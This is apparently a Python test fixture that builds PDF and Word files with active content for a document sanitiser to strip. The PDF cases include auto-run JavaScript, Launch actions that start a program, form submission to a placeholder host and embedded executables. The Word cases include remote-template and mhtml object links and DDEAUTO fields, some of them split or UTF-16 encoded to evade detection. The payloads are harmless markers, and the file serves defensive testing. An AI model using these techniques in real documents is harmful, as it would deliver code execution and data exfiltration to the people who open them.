"""PDF and Word files that start something by themselves or carry something beside their words.

Whatever is active in one holds the mark ``HARM``, so that a copy can be searched for what should be gone.
"""

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.extraction import hostile

HARM = b"HARM"
SCRIPT = "app.alert('HARM')"


def _with(change) -> bytes:
    with pikepdf.open(io.BytesIO(hostile.pdf(2, text="Voice"))) as made:
        change(made, made.Root, made.pages[0])
        out = io.BytesIO()
        made.save(out)
        return out.getvalue()


def _script(made, **more) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=made.make_stream(SCRIPT.encode()), **more)


def _remark(made, page, subtype: str, **more) -> Dictionary:
    remark = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[0, 0, 9, 9], **more))
    page.Annots = Array([*page.get("/Annots", []), remark])
    return remark


def _file(made) -> Dictionary:
    content = made.make_stream(b"MZ HARM")
    return made.make_indirect(Dictionary(Type=Name.Filespec, F="HARM.exe", EF=Dictionary(F=content)))


def _link(made, page, **action):
    _remark(made, page, "/Link", A=Dictionary(**action))


def _open_script(made, root, page):
    root.OpenAction = _script(made)


def _named_script(made, root, page):
    tree = made.make_indirect(Dictionary(Names=[String("start"), _script(made)]))
    root.Names = made.make_indirect(Dictionary(JavaScript=tree, Dests=Dictionary(Names=[])))


def _page_script(made, root, page):
    page.AA = Dictionary(O=_script(made))


def _field_script(made, root, page):
    field = _remark(made, page, "/Widget", FT=Name.Tx, T="name", AA=Dictionary(K=_script(made)))
    root.AcroForm = Dictionary(Fields=[field], CO=[field], XFA=made.make_stream(b"<xdp>HARM</xdp>"))


def _hidden_field_script(made, root, page):
    """A field that no page shows, below another."""
    child = made.make_indirect(Dictionary(T="child", A=_script(made)))
    root.AcroForm = Dictionary(Fields=[made.make_indirect(Dictionary(FT=Name.Btn, T="a", Kids=[child]))])


def _chained_script(made, root, page):
    _link(made, page, S=Name.URI, URI="https://force.example", Next=_script(made))


def _chain_of_many(made, root, page):
    _link(made, page, S=Name.GoTo, D=[page.obj, Name.Fit], Next=Array([_script(made)]))


def _bookmark_script(made, root, page):
    mark = made.make_indirect(Dictionary(Title="Chapter", A=_script(made)))
    root.Outlines = made.make_indirect(Dictionary(First=mark, Last=mark, Count=1))
    mark.Parent = root.Outlines


def _script_address(made, root, page):
    _link(made, page, S=Name.URI, URI=f"javascript:{SCRIPT}")


def _file_address(made, root, page):
    _link(made, page, S=Name.URI, URI="file://server/HARM.exe")


def _launch(made, root, page):
    root.OpenAction = Dictionary(S=Name.Launch, F="HARM.exe", Win=Dictionary(F="HARM.exe", P="/c HARM"))


def _launch_by_press(made, root, page):
    _link(made, page, S=Name.Launch, F="HARM.exe")


def _other_file(made, root, page):
    _link(made, page, S=Name.GoToR, F=r"\\server\HARM.pdf", D=[0, Name.Fit])


def _sends_form(made, root, page):
    root.AA = Dictionary(WC=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://HARM.example")))


def _prints(made, root, page):
    root.OpenAction = Dictionary(S=Name.Named, N=Name.Print, HARM=True)


def _unheard_of(made, root, page):
    _link(made, page, S=Name.SomethingNew, JSX="HARM")


def _slides(made, root, page):
    page.PresSteps = Dictionary(Type=Name.NavNode, NA=_script(made))


def _attached(made, root, page):
    root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[String("x"), _file(made)]))
    root.AF = Array([_file(made)])


def _pinned(made, root, page):
    remark = _remark(made, page, "/FileAttachment", FS=_file(made))
    # Reached a second way: through what tells a screen reader of it.
    part = Dictionary(Type=Name.StructElem, S=Name.Annot, K=Dictionary(Type=Name.OBJR, Obj=remark))
    root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=[made.make_indirect(part)])


def _portfolio(made, root, page):
    root.Collection = Dictionary(D="HARM", View=Name.D)


def _rich_media(made, root, page):
    _remark(made, page, "/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=[String("x"), _file(made)])))


def _film(made, root, page):
    screen = Dictionary(S=Name.Rendition, JS=SCRIPT, R=Dictionary(C=Dictionary(D=_file(made))))
    _remark(made, page, "/Screen", A=screen)


def _made_up_remark(made, root, page):
    _remark(made, page, "/HARMful", A=_script(made))


def _outside_picture(made, root, page):
    picture = made.make_stream(b"")
    picture.Type, picture.Subtype, picture.F = Name.XObject, Name.Image, String(r"\\server\HARM.png")
    page.Resources.XObject = Dictionary(I=picture)


def _beside_the_root(made, root, page):
    made.trailer.HARM = _script(made)


def _unknown_in_catalogue(made, root, page):
    root.HARM = _script(made)


def _earlier_words(made, root, page):
    """Left in the file, though nothing points at it."""
    made.make_indirect(String("HARM"))


PDFS = {
    "a script on opening": (_open_script, {"scripts"}),
    "a script by name": (_named_script, {"scripts"}),
    "a script of a page": (_page_script, {"actions"}),
    "a script of a field": (_field_script, {"actions", "scripts"}),
    "a script of a field that no page shows": (_hidden_field_script, {"scripts"}),
    "a script after a link": (_chained_script, {"actions"}),
    "a script in a list after a link": (_chain_of_many, {"actions"}),
    "a script of a bookmark": (_bookmark_script, {"scripts"}),
    "a script as an address": (_script_address, {"actions"}),
    "a file as an address": (_file_address, {"actions"}),
    "a program on opening": (_launch, {"actions"}),
    "a program by a press": (_launch_by_press, {"actions"}),
    "a file of a server": (_other_file, {"actions"}),
    "a form that is sent on closing": (_sends_form, {"actions"}),
    "printing on opening": (_prints, {"actions"}),
    "an action nobody has heard of": (_unheard_of, {"actions"}),
    "steps of a slide show": (_slides, {"actions"}),
    "attached files": (_attached, {"attachments"}),
    "a file pinned to a page": (_pinned, {"attachments"}),
    "a portfolio": (_portfolio, {"attachments"}),
    "rich media": (_rich_media, {"media"}),
    "a film": (_film, {"media"}),
    "a remark of a made-up kind": (_made_up_remark, {"media"}),
    "a picture on a server": (_outside_picture, {"attachments"}),
    "something beside the root": (_beside_the_root, set()),
    "something unknown in the catalogue": (_unknown_in_catalogue, set()),
    "words that nothing points at": (_earlier_words, set()),
}


def pdf(what: str) -> bytes:
    return _with(PDFS[what][0])


def harmless_pdf() -> bytes:
    """Links, bookmarks, a form, tags, and names that look like active keys and are names of fonts."""

    def change(made, root, page):
        _link(made, page, S=Name.URI, URI="https://force.example/policy")
        _link(made, page, S=Name.GoTo, D=[made.pages[1].obj, Name.Fit])
        mark = made.make_indirect(Dictionary(Title="Chapter", A=Dictionary(S=Name.GoTo, D=[page.obj, Name.Fit])))
        root.Outlines = made.make_indirect(Dictionary(First=mark, Last=mark, Count=1))
        root.OpenAction = Array([page.obj, Name.Fit])
        page.Resources.Font.AA = page.Resources.Font.F1
        page.Resources.Font.JS = page.Resources.Font.F1
        page.Contents = made.make_stream(b"BT /AA 12 Tf 50 700 Td (Voice) Tj /JS 12 Tf ( 1) Tj ET")
        part = Dictionary(Type=Name.StructElem, S=Name.P, A=Dictionary(O=Name.Layout, TextAlign=Name.Center))
        root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=[made.make_indirect(part)])
        root.Lang = "cy"

    return _with(change)


def uncompressed(content: bytes) -> bytes:
    """The PDF written out, so that every word in it can be found."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as made:
        plain = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.generalized}
        made.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, **plain)
    return out.getvalue()


def _docx(part: str, content: str | bytes, relations: str = "") -> bytes:
    """A Word document with one more part, and relations of the document."""
    data = content.encode() if isinstance(content, str) else content
    made = hostile.with_entry(hostile.docx("Voice"), part, data) if part else hostile.docx("Voice")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as good, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for entry in good.infolist():
            data = good.read(entry.filename)
            if entry.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", f"{relations}</Relationships>".encode())
            packed.writestr(entry.filename, data)
    return out.getvalue()


def _relation(kind: str, target: str, mode: str = "External") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rHARM" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:hdr xmlns:w="{hostile.W}"><w:p>{runs}</w:p></w:hdr>'


TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f"{_relation('attachedTemplate', 'https://HARM.example/a.dotm', '&#69;xternal')}</Relationships>"
)
DOCX = {
    "a template on a server": (_docx("word/_rels/settings.xml.rels", TEMPLATE), ["links"]),
    "an object on a server": (_docx("", "", _relation("oleObject", "mhtml:http://HARM.example")), ["links"]),
    "a picture on a server": (_docx("", "", _relation("image", "http://HARM.example/a.png")), ["links"]),
    "a packed object": (_docx("word/embeddings/oleObject1.bin", "HARM"), ["objects"]),
    "a packed workbook with macros": (_docx("word/embeddings/book.xlsm", "HARM"), ["objects"]),
    "a control": (_docx("word/activeX/activeX1.xml", "<HARM/>"), ["objects"]),
    "another document within": (_docx("word/a.html", "", _relation("aFChunk", "a.html", "Internal")), ["objects"]),
    "a field that starts a program": (_docx("word/header1.xml", _field("DDEAUTO c:\\HARM.exe")), ["fields"]),
    "a field in wide letters": (
        _docx("word/header1.xml", _field("DDEAUTO HARM").encode("utf-16")),
        ["fields"],
    ),
    "a field in pieces": (_docx("word/header1.xml", _field("&#68;D", "EAU", "TO HARM")), ["fields"]),
}
HARMLESS_DOCX = {
    "a link to press": _docx("", "", _relation("hyperlink", "https://force.example")),
    "the table of a chart": _docx("word/embeddings/Sheet1.xlsx", "x"),
    "a field with the page": _docx("word/header1.xml", _field(" PAGE ")),
}


def scan() -> bytes:
    """A page without words, and a script."""
    with pikepdf.open(io.BytesIO(hostile.pdf(1))) as made:
        _open_script(made, made.Root, made.pages[0])
        out = io.BytesIO()
        made.save(out)
        return out.getvalue()
